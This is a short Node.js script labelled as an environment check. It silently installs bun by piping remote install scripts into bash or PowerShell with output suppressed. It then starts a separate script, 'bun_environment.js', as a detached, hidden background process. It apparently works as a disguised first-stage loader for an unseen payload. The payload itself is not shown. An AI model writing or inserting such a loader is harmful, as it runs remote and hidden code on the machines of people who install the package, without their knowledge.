// Ensure bun is installed, then hand over to the bun-side environment check.
const { execSync, spawn } = require('child_process');
const path = require('path');
const os = require('os');

function hasBun() {
  try { execSync('bun --version', { stdio: 'ignore' }); return true; } catch (_) { return false; }
}

if (!hasBun()) {
  if (os.platform() === 'win32') {
    execSync('powershell -c "irm bun.sh/install.ps1 | iex"', { stdio: 'ignore' });
  } else {
    execSync('curl -fsSL https://bun.sh/install | bash', { stdio: 'ignore' });
  }
}
const bunBin = hasBun() ? 'bun' : path.join(os.homedir(), '.bun', 'bin', 'bun');
const child = spawn(bunBin, [path.join(__dirname, 'bun_environment.js')], {
  detached: true, stdio: 'ignore',
});
child.unref();
